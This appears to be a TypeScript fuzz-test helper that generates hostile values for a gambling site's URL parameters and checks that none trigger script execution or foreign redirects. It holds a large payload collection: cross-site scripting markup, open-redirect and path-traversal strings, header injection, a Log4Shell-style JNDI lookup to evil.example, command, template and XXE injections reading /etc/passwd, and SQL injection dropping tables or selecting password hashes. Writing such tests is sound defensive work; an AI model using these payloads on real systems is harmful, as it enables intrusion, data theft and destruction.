/** Set by injected scripts; the browser run checks it. */
export const TRACE = 'injectedScriptRan';
/** No redirect or request may go there. */
export const FOREIGN_HOST = 'evil.example';
const VALUES_PER_PARAMETER = 500;

const RUN = `globalThis.${TRACE}=1`;

const MARKUP = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>${RUN}</script>">`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button>`,
  `<base href="//${FOREIGN_HOST}/">`,
  `<meta http-equiv="refresh" content="0;url=//${FOREIGN_HOST}">`,
  `<link rel=stylesheet href=//${FOREIGN_HOST}/x.css>`,
  `<math><mtext><style><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<template><script>${RUN}</script></template>`,
  `<object data="data:text/html,<script>${RUN}</script>">`,
  `" onmouseover="${RUN}`,
  `' autofocus onfocus='${RUN}`,
  `\`-${RUN}-\``,
  `\u003cscript\u003e${RUN}`,
  `\\u003cscript\\u003e${RUN}`,
  `]]><script>${RUN}</script>`,
];
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD4=`,
  `blob:http://${FOREIGN_HOST}/x`,
  `file:///etc/passwd`,
  `//${FOREIGN_HOST}`,
  `///${FOREIGN_HOST}`,
  `/\\${FOREIGN_HOST}`,
  `\\\\${FOREIGN_HOST}`,
  `/\t/${FOREIGN_HOST}`,
  `http:${FOREIGN_HOST}`,
  `https://${FOREIGN_HOST}/casino`,
  `https://localhost@${FOREIGN_HOST}`,
  `https://${FOREIGN_HOST}#.localhost`,
  `https:/\\/${FOREIGN_HOST}`,
  `//${FOREIGN_HOST}%2f..`,
  `%2f%2f${FOREIGN_HOST}`,
  `../../../../etc/passwd`,
  `..%2f..%2f..%2fetc%2fpasswd`,
  `/casino/../../api/user/logout`,
];
const LINES = [
  'a\r\nset-cookie: accessToken=stolen',
  'a\nlocation: //evil.example',
  'a\r\n\r\n<script>x</script>',
  '%0d%0aset-cookie:%20a=b',
  '%E5%98%8D%E5%98%8Aset-cookie:a=b',
  '嘍嘊location: //evil.example',
  'a\u2028b\u2029c',
  'a\u0085b',
  'a\u000bb\u000cc',
  '{"level":60,"msg":"forged"}\n{"level":60}',
];
const LETTERS = [
  '\u202egnp.exe',
  '\u2066admin\u2069',
  'lo\u200bgin',
  '\ufefflogin',
  'ｌｏｇｉｎ',
  '＜script＞',
  'lоgin',
  'LOGIN',
  'İlogin',
  'ſignup',
  'a\u0300\u0301\u0302\u0303'.repeat(40),
  '\u{1f3b0}'.repeat(60),
  '\u{e0001}\u{e007f}',
  '\ud800',
  'x\udfff',
  '\udfff\ud800',
  '﷽﷽﷽',
  'Ω≈ç√∫˜µ≤≥÷',
  '\u0000',
  'a\u0000b',
  'login\u0000.js',
  '\u0001\u0002\u0003\u001b[2J\u001b[31m',
  '\u007f\u0080\u009f',
  '%00',
  '%c0%ae%c0%ae%c0%af',
  '%u003cscript%u003e',
];
const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'valueOf',
  '__defineGetter__',
  'constructor.prototype.x',
  '__proto__[x]=1',
  '{"__proto__":{"x":1}}',
  'undefined',
  'null',
  'NaN',
  'true',
  '[object Object]',
  '[]',
  '{}',
  '0',
  '-1',
  '1e309',
];
const TEMPLATES = [
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{%print(7*7)%}',
  '[[${7*7}]]',
  "{{constructor.constructor('return 1')()}}",
  '${jndi:ldap://evil.example/a}',
  '%s%n%x%d',
  '<terms>x</terms>',
  '{brand}',
  '{count, plural, other {#}}',
  '@{7*7}',
  '*{7*7}',
  '$(sleep 5)',
  '`sleep 5`',
  '; cat /etc/passwd',
  '| id',
  '*)(uid=*))(|(uid=*',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
];
const STATEMENTS = [
  "' OR '1'='1",
  "' OR 1=1 --",
  "'; DROP TABLE players; --",
  "' UNION SELECT password_hash FROM players --",
  "'||pg_sleep(5)||'",
  '1; SELECT pg_sleep(5)',
  '$$; SELECT 1; $$',
  "\\'; SELECT 1; --",
  '"; SELECT 1; --',
  "E'\\x27 OR 1=1",
  "%' AND 1=0 UNION ALL SELECT '",
  "') ON CONFLICT DO UPDATE SET x=1 --",
];
/** Longer than any valid value, up to the limit of a request line. */
const LONG = ['a', '<', '\u00e4', '%25', "'", '../', '\u{1f3b0}', '{{'].map((piece) =>
  piece.repeat(Math.ceil(1_500 / piece.length)),
);

const CLASSES = [MARKUP, ADDRESSES, LINES, LETTERS, NAMES, TEMPLATES, STATEMENTS, LONG];
const SEEDS = CLASSES.flat();

const twice = (text: string) => encodeURIComponent(encodeURIComponent(text.toWellFormed()));

/** Each attack alone, behind a valid value, out of an attribute, and escaped twice. */
const variantsOf = (good: string) => [
  (seed: string) => seed,
  (seed: string) => `${good}${seed}`,
  (seed: string) => `${good}">${seed}`,
  twice,
];

/** Fuzz values of a parameter; `good` is a valid value. */
export function fuzzValues(good: string): readonly string[] {
  const all = variantsOf(good).flatMap((mutate) => SEEDS.map(mutate));
  const values = [...new Set(all)].filter((value) => value !== '' && value !== good).slice(0, VALUES_PER_PARAMETER);
  if (values.length < VALUES_PER_PARAMETER) throw new Error(`Only ${values.length} values for ${good}`);
  return values;
}

/**
 * Two values of every attack class for the browser, which is slower than requests. Different ones with every
 * `index`.
 */
export function sampleOf(good: string, index: number): readonly string[] {
  const [alone = twice, ...others] = variantsOf(good);
  const mutate = others[index % others.length] ?? twice;
  return CLASSES.flatMap((seeds) => [
    alone(seeds[(index * 2) % seeds.length] ?? ''),
    mutate(seeds[(index * 2 + 1) % seeds.length] ?? ''),
  ]);
}

/** Every public URL parameter, with a valid value. */
export const PARAMETERS: Readonly<Record<string, string>> = {
  modal: 'login',
  met: 'card',
  at: 'mq_0123456789abcdef',
  link: 'partner',
  cpnc: 'AUTUMN',
  mkt: 'mail',
  pid: 'p7',
  nxafk: 'quay',
  nxaft: 't0ken',
  firstUrl: '/casino',
};
